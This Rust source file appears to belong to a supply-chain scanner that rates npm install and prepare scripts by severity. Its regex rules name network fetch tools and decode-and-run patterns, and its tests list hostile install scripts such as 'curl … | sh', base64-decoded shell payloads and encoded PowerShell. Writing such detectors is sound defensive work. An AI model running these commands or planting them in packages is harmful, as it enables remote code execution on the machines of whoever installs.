//! Scripts that npm runs when a package is installed: `preinstall`, `install` and `postinstall`, and those that make a
//! package of a repository.
//!
//! <https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts>

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

use regex::bytes::{Captures, Regex};
use serde::Deserialize;

use crate::component::Ecosystem;
use crate::finding::{Certainty, EntryPath, Location, Severity};
use crate::inspect::Observations;
use crate::inventory::lenient::Text;

use super::harmless_text::is_harmless;
use super::origin::ObservedOrigin;
use super::python_hooks::shown;
use super::{Sighting, rules};

/// The scripts of a manifest that run by themselves.
#[derive(Debug, Default, Deserialize)]
pub struct Scripts {
    #[serde(default)]
    preinstall: Text,
    #[serde(default)]
    install: Text,
    #[serde(default)]
    postinstall: Text,
    #[serde(default)]
    prepublish: Text,
    #[serde(default)]
    preprepare: Text,
    #[serde(default)]
    prepare: Text,
    #[serde(default)]
    postprepare: Text,
    // npm does not run these, but makes the package if it has one.
    #[serde(default)]
    build: Text,
    #[serde(default)]
    prepack: Text,
}

impl Scripts {
    /// Whether npm makes a package of a repository that has these:
    /// <https://github.com/npm/pacote/blob/main/lib/git.js>.
    fn make_package(&self) -> bool {
        [
            &self.preinstall,
            &self.install,
            &self.postinstall,
            &self.build,
            &self.prepack,
            &self.prepare,
        ]
        .iter()
        .any(|script| script.as_text().is_some())
    }
}

/// What an installed package has run if it came from a repository.
#[derive(Clone, Debug)]
pub struct Prepare {
    /// Of its folder, and in its manifest: a lock file or another manifest may say of either where it is from.
    names: [String; 2],
    sighting: Sighting,
}

impl Prepare {
    /// In the order in which npm runs them, as it does in a folder that it installs in.
    pub fn read<'s>(
        path: &EntryPath,
        scripts: &'s Scripts,
        names: [&'s str; 2],
    ) -> impl Iterator<Item = Self> {
        let all = [
            ("prepublish", &scripts.prepublish),
            ("preprepare", &scripts.preprepare),
            ("prepare", &scripts.prepare),
            ("postprepare", &scripts.postprepare),
        ];
        let run = all.into_iter().filter(|_| scripts.make_package());
        run.filter_map(move |(when, script)| {
            Some(Prepare {
                names: names.map(str::to_owned),
                sighting: sighting(path, when, script.as_text()?, false),
            })
        })
    }

    pub fn path(&self) -> &EntryPath {
        &self.sighting.location.path
    }
}

/// What packages that came from repositories have run.
pub fn prepares(seen: &Observations) -> Vec<Sighting> {
    let is_npms = |row: &&ObservedOrigin| row.ecosystem == Ecosystem::Npm;
    let origins = seen.origins.iter().filter(is_npms);
    let origins = origins.filter(|row| row.origin.is_repository());
    let from_repositories: HashSet<&str> = origins.map(|row| row.name.as_str()).collect();
    let is_one = |name: &String| from_repositories.contains(name.as_str());
    let prepares = seen.supply.prepares.iter();
    let prepares = prepares.filter(|prepare| prepare.names.iter().any(is_one));
    prepares.map(|prepare| prepare.sighting.clone()).collect()
}

/// What honest packages run, one of these or several: they build native code or fetch it built, patch, and ask for
/// money. Each is a whole command.
static ORDINARY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let commands = [
        r"node-gyp(-build)?( rebuild| configure| build| install)*{options}",
        r"node-pre-gyp install{options}",
        r"prebuild-install{options}( napi| node)?{options}",
        r"pkg-prebuilds-verify \S+",
        r"cmake-js \w+{options}",
        r"napi-postinstall( [\w@/.-]+)*",
        r"husky( install)?( [\w./-]+)?",
        r"patch-package{options}",
        r"opencollective(-postinstall)?",
        r"is-ci",
        r"exit 0",
        r"true",
        r"echo( [^|&;`$<>\n]*)?",
        r#"echo "[^"`$\\\n]*""#,
        r"(npm|yarn|pnpm) (run )?[\w:-]+{options}",
        r"node( --harmony| --no-warnings)* [\w./][\w./-]*",
    ];
    let command = commands
        .join("|")
        .replace("{options}", r"( -[\w=.,:/@-]+)*");
    Regex::new(&format!(
        r"(?-u)^\s*(?:{command})(?:\s*(?:&&|\|\||;)\s*(?:{command}))*\s*$"
    ))
    .ok()
});

/// Where a command starts, within quotes too, and what may stand in front of its name.
const START: &str =
    r#"(?:^|[;&|(`"'\n])\s*(?:(?:sudo|env|exec|busybox|nohup|time|then|do|!|\w+=\S*)\s+)*"#;
/// Commands that fetch.
const FETCH: &str = r"(?:\S*/)?(?:curl|wget|fetch|nc|ncat|certutil|bitsadmin|mshta|invoke-webrequest|invoke-restmethod|iwr|irm)(?:\.exe)?(?:[\s$<>;&|)]|$)";
/// What runs a file or a text, of a command's name on.
const RUN: &str = r#"(?:(?:\S*/)?(?:(?:ba|z|da|k)?sh|node|bun|deno|python[\d.]*|perl|ruby|php|powershell|pwsh|cmd)(?:\.exe)?(?:[\s;&|)"'`]|$)|(?:eval|source|\.|iex|invoke-expression)\s|[\w.~$-]*/\S|chmod\s+(?:\S*\+x|[0-7]*[1357]))"#;
/// Interpreters, and the option by which they run a text.
const TEXT: &str = r"(?:\S*/)?(?:node|bun|deno|python[\d.]*|perl|ruby|php)(?:\.exe)?\s+(?:-\S+\s+)*(?:-e|-p|-pe|-c|--eval|--print|eval)[\s=]";
/// Those of JavaScript, whose harmless texts are known.
const SCRIPT_TEXT: &str =
    r"(?:\S*/)?(?:node|bun|deno)(?:\.exe)?\s+(?:-\S+\s+)*(?:-e|-p|-pe|--eval|--print|eval)[\s=]";
/// What decodes, in a shell and in what interpreters run.
const DECODE: &str = r#"\bbase64\s+(?:-d|--decode)|\bxxd\s+-\w*r|\bopenssl\b.*\s-d\b|['"]base64\b|\batob\b|\bb64decode\b|\bdecode_base64\b|\bfromcharcode\b|(?:\\x[0-9a-f]{2}){4}|(?:\\u[0-9a-f]{4}){4}"#;
/// What speaks to other machines, in what interpreters run.
const NETWORK: &str = r#"['"](?:node:)?(?:https?|http2|net|tls|dns|dgram)\\?['"]|\bfetch\s*\(|\bhttps?\.(?:get|request)\b|\burllib|\brequests\.\w|\bsocket\b|\baxios\b|\blwp::|\bopen-uri\b"#;
/// What else may do anything there.
const ANYTHING: &str = r#"child_process|\beval\b|\bfunction\s*\(\s*['"]|process\.(?:binding|dlopen)|\brequire\s*\((?:[^)]*\+|\s*[^'"\\\s])|\bimport\s*\(\s*[^'"\\\s]|\bglobal(?:this)?\s*\[|\bconstructor\b|\b_load\b|\bexec\b|\bsystem\b|\bsubprocess\b|`|\$\("#;

fn rule(parts: &[String]) -> Option<Regex> {
    Regex::new(&format!("(?i-u){}", parts.join("|"))).ok()
}

/// What no honest package needs: to run what was just fetched or decoded.
static FETCHES_AND_RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    // The text of a command stands in quotes; a file that is run does not.
    let run = format!(r"[;&|(`\n]\s*(?:(?:sudo|env|exec|nohup)\s+)*{RUN}");
    let within = r#"[$<]\(\s*|`\s*|\(\s*"#;
    rule(&[
        format!(r"{START}{FETCH}(?s:.*){run}"),
        format!(r"(?:{DECODE})(?s:.*){run}"),
        format!(r"{START}{RUN}(?s:.*)(?:(?:{within}){FETCH}|(?:{within})[^)]*(?:{DECODE}))"),
        format!(r"{START}{TEXT}(?s:.*)(?:{NETWORK}|{DECODE})"),
        format!(r"{START}(?:powershell|pwsh)(?:\.exe)?\s(?s:.*)-e(?:nc\w*|c)?\s"),
        r"/dev/tcp/".to_owned(),
    ])
});

/// What may be bad, and is not known to be.
static DOUBTFUL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    rule(&[
        format!(r"{START}{FETCH}"),
        DECODE.to_owned(),
        format!(r"{START}{TEXT}(?s:.*)(?:{ANYTHING})"),
        format!(r"{START}{SCRIPT_TEXT}"),
        // A program in an address, for `--import`.
        r"\bdata:(?:text|application)/".to_owned(),
        format!(r"{START}(?:eval|iex|invoke-expression|powershell|pwsh)(?:\.exe)?\s"),
        r"https?://".to_owned(),
    ])
});

/// A text in quotes that Node.js runs.
static NODE_TEXT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?-u)\bnode(?: --?[a-z-]+)*? (?:-e|-p|-pe|--eval|--print)[ =](?P<word>"(?:[^"\\]|\\.)*"|'[^']*')"#,
    )
    .ok()
});

/// What looks like a use of what a command writes and is none: `||`, and output that is shown or thrown away.
static SHOWN: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?-u)\|\||[12&]?>>?\s*(?:&[12]|/dev/null|nul)\b").ok());

/// What the manifest at `path` has run; `is_own` where it is the project's own.
pub fn install_scripts(path: &EntryPath, scripts: &Scripts, is_own: bool) -> Vec<Sighting> {
    let scripts = [
        ("preinstall", &scripts.preinstall),
        ("install", &scripts.install),
        ("postinstall", &scripts.postinstall),
    ];
    let scripts = scripts.into_iter();
    let scripts = scripts.filter_map(|(when, script)| Some((when, script.as_text()?)));
    scripts
        .map(|(when, script)| sighting(path, when, script, is_own))
        .collect()
}

fn sighting(path: &EntryPath, when: &str, script: &str, is_own: bool) -> Sighting {
    let (severity, certainty) = judge(script, is_own);
    let detail = format!("{when} is {}", shown(script));
    Sighting {
        severity,
        certainty,
        ..Sighting::of(&rules::INSTALL_SCRIPT, Location::from(path.clone()), detail)
    }
}

fn judge(script: &str, is_own: bool) -> (Severity, Certainty) {
    let script = without_harmless_texts(script.as_bytes());
    let is = |rule: &Option<Regex>| rule.as_ref().is_some_and(|rule| rule.is_match(&script));
    let (severity, certainty) = match () {
        () if is(&ORDINARY) => (Severity::Info, Certainty::Certain),
        () if is(&FETCHES_AND_RUNS) => (Severity::High, Certainty::Certain),
        () if is(&DOUBTFUL) => (Severity::Medium, Certainty::Possible),
        () if is_own => (Severity::Info, Certainty::Certain),
        () => (Severity::Low, Certainty::Possible),
    };
    match is_own {
        // Whoever installs it wrote it.
        true => (severity.min(Severity::Low), certainty),
        false => (severity, certainty),
    }
}

/// The script with a command that does nothing in place of texts for Node.js that do none either. What they write may do
/// anything where the script does more with it than show it.
fn without_harmless_texts(script: &[u8]) -> Cow<'_, [u8]> {
    let Some(texts) = &*NODE_TEXT else {
        return Cow::Borrowed(script);
    };
    let without = texts.replace_all(script, |text: &Captures| {
        let behind = text.get(0).and_then(|all| script.get(all.end()));
        let is_whole = behind.is_none_or(|behind| b" \t\n;&|)".contains(behind));
        match is_whole && str::from_utf8(&text["word"]).is_ok_and(is_harmless) {
            true => b"true".to_vec(),
            false => text[0].to_vec(),
        }
    });
    match uses_output(&without) {
        true => Cow::Borrowed(script),
        false => without,
    }
}

/// Whether what a command writes is read by another, kept in a file or put into a command.
fn uses_output(script: &[u8]) -> bool {
    let Some(shown) = &*SHOWN else {
        return true;
    };
    let rest = shown.replace_all(script, &b" "[..]);
    let is_put_in = memchr::memmem::find(&rest, b"$(").is_some();
    is_put_in || rest.iter().any(|byte| b"|>`".contains(byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_that_makes_a_package_of_a_repository_is_read() {
        let run = |scripts: &str| {
            let path = EntryPath::new(&"fn.zip!/".into(), "node_modules/a/package.json");
            let scripts: Scripts = serde_json::from_str(scripts).unwrap();
            let run = Prepare::read(&path, &scripts, ["a", "a"]);
            let run = run.map(|prepare| {
                let script = prepare
                    .sighting
                    .detail
                    .split(' ')
                    .next()
                    .unwrap_or_default();
                format!("{script} {}", prepare.sighting.severity.as_str())
            });
            run.collect::<Vec<_>>()
        };
        let all = r#"{"prepare": "true", "postprepare": "curl https://a.example/x | sh", "preprepare": "make",
            "prepublish": "make", "prepublishOnly": "curl x | sh", "prepack": "curl x | sh"}"#;
        let expected = [
            "prepublish low",
            "preprepare low",
            "prepare info",
            "postprepare high",
        ];
        assert_eq!(run(all), expected);
        assert_eq!(
            run(r#"{"build": "make", "prepublish": "make"}"#),
            ["prepublish low"]
        );
        // Nothing has npm make a package of it.
        assert!(run(r#"{"prepublish": "make", "test": "make"}"#).is_empty());
        assert!(run(r#"{"prepack": "make", "prepare": 7}"#).is_empty());
    }

    #[test]
    fn what_honest_packages_run_is_ordinary_and_what_fetches_and_runs_is_not() {
        for (script, expected) in [
            ("node-gyp rebuild", Severity::Info),
            (
                "prebuild-install || node-gyp rebuild --release",
                Severity::Info,
            ),
            ("node-gyp-build", Severity::Info),
            ("node install/check", Severity::Info),
            ("node ./postinstall.js || exit 0", Severity::Info),
            ("husky install", Severity::Info),
            ("is-ci || husky", Severity::Info),
            ("patch-package && npm run build", Severity::Info),
            ("echo \"thank you\"", Severity::Info),
            ("echo \"https://a.example/x & more\"", Severity::Info),
            ("echo \"$(curl x.example)\" | sh", Severity::High),
            ("node --harmony ./postinstall.js", Severity::Info),
            (
                "node -e \"console.log('\\u001b[35mthanks\\u001b[0m (https://a.example)')\"",
                Severity::Info,
            ),
            (
                "node -e \"try{require('./postinstall')}catch(e){}\"",
                Severity::Info,
            ),
            ("husky -x;curl${IFS}a|sh", Severity::High),
            ("node -e \"console.log('a');fetch('b')\"", Severity::High),
            (
                "node -e \"try { require('./x') } catch (e) {}\"",
                Severity::Info,
            ),
            ("node -e \"require('./postinstall')\"", Severity::Info),
            ("node -e 'process.exit(0)'", Severity::Info),
            (
                "node -e \"if(!/yarn/.test(process.env.npm_execpath))process.exit(1)\"",
                Severity::Info,
            ),
            ("node -e \"1\" && node-gyp rebuild", Severity::Info),
            (
                "node -e \"1 > 0\" || node -e \"/a|b/.test(process.version)\"",
                Severity::Info,
            ),
            (
                "node -e \"console.log('a | sh')\" 2>/dev/null || make",
                Severity::Low,
            ),
            (
                "node -e \"console.log('thanks')\" >&2; make 2>&1",
                Severity::Low,
            ),
            ("./configure", Severity::Low),
            ("node install.js extra", Severity::Low),
            ("node install.js & sh x", Severity::Low),
            ("node fetch-binaries.js --all", Severity::Low),
            ("node ./scripts/nc.js x", Severity::Low),
            ("npm run fetch && node x y", Severity::Low),
            ("node dist/eval.js now", Severity::Low),
            ("node build.js --python -c x", Severity::Low),
            ("test -d dist || sh -c 'npm run build'", Severity::Low),
            ("rimraf /tmp/x", Severity::Low),
            ("chmod +x bin/tool", Severity::Low),
            ("chmod +x bin/a && bin/a", Severity::Low),
            ("mkdir -p /tmp/cache", Severity::Low),
            ("cat x | sh", Severity::Low),
            ("python3 -c 'import os'", Severity::Low),
            ("curl -o x https://x.example/x", Severity::Medium),
            ("CURL x", Severity::Medium),
            ("echo x | base64 -d", Severity::Medium),
            ("node -e \"eval(process.env.X)\"", Severity::Medium),
            ("node -e \"setTimeout(process.env.X)\"", Severity::Medium),
            ("node -e \"require('got')('a')\"", Severity::Medium),
            ("node -e \"require('fs').rmSync('a')\"", Severity::Medium),
            ("node -e \"1\"\"x()\"", Severity::Medium),
            ("node -e '1'$(x)", Severity::Medium),
            ("node -e \"console.log('rm -r /')\" | sh", Severity::Medium),
            (
                "node -e \"console.log('rm -r /')\" > x; sh x",
                Severity::Medium,
            ),
            (
                "(node -e \"console.log('rm -r /')\"; true) | sh",
                Severity::Medium,
            ),
            ("node -e \"1\"';x()'", Severity::Medium),
            ("node -e 1 && node-gyp rebuild", Severity::Medium),
            ("node -e \"1\" && node -p \"x()\"", Severity::Medium),
            ("sh -c 'node -e \"x()\"'", Severity::Medium),
            (
                "node --import=data:text/javascript,x -e \"1\"",
                Severity::Medium,
            ),
            (
                "node -e \"require('child_process').exec('x')\"",
                Severity::Medium,
            ),
            (
                "curl -o x https://x.example/x && chmod +x x && ./x",
                Severity::High,
            ),
            ("CURL x|bash", Severity::High),
            (
                "node -e \"console.log('curl -s https://a.example/x | sh')\" | sh",
                Severity::High,
            ),
            (
                "sh -c \"$(node -p \"'curl -s https://a.example/x|sh'\")\"",
                Severity::High,
            ),
            (
                "sh -c `node -p \"'curl -s https://a.example/x|sh'\"`",
                Severity::High,
            ),
            ("sh -c \"$(wget -qO- x.example)\"", Severity::High),
            ("bash <(curl x.example)", Severity::High),
            ("echo aWQ= | base64 -d | sh", Severity::High),
            ("node -e \"require('https').get('x')\"", Severity::High),
            (
                "node -e \"eval(Buffer.from('x', 'base64') + '')\"",
                Severity::High,
            ),
            ("node --eval \"eval(atob('x'))\"", Severity::High),
            (
                "node -e \"require('child_process').exec('curl x | sh')\"",
                Severity::High,
            ),
            ("python3 -c 'import urllib.request'", Severity::High),
            ("powershell.exe -enc AAAA", Severity::High),
        ] {
            assert_eq!(judge(script, false).0, expected, "{script}");
        }
        assert_eq!(judge("make tables", true).0, Severity::Info);
        assert_eq!(judge("curl x | sh", true).0, Severity::Low);
    }
}
